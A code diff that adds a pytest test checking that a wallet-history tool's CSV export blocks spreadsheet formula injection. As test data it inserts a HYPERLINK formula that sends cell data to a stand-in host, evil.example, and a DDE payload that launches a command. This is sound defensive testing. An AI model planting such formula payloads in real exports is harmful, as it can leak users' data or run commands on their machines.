@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pytest
 
@@ -91,3 +92,32 @@ def test_sync_reads_the_restored_wallets_history_from_the_node(
     rows = json.loads(capsys.readouterr().out)
     received = {(r["symbol"], r["direction"]) for r in rows}
     assert ("DUSD", "in") in received and ("DGLD", "in") in received
+
+
+def test_csv_guards_every_text_column_against_formulas(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A token anyone can deploy names itself =HYPERLINK(...): no cell may start a formula."""
+    store = Store(Paths.default().ensure().database)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Claim")'
+    HistoryStore(store).insert(
+        [
+            item(
+                1,
+                symbol=evil,
+                asset=DUSD,
+                decimals=6,
+                amount=1,
+                method="@SUM(1+1)*cmd|' /C calc'!A0",
+            )
+        ]
+    )
+    store.close()
+    assert main(["history", "--csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = [c for row in rows[1:] for c in row]
+    assert evil[1:] in "".join(cells)  # still there, quoted
+    numbers = re.compile(r"-?\d+(?:\.\d+)?")  # our own numbers (log index -1) are no formula
+    assert not [
+        c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@", "-") and not numbers.fullmatch(c)
+    ]
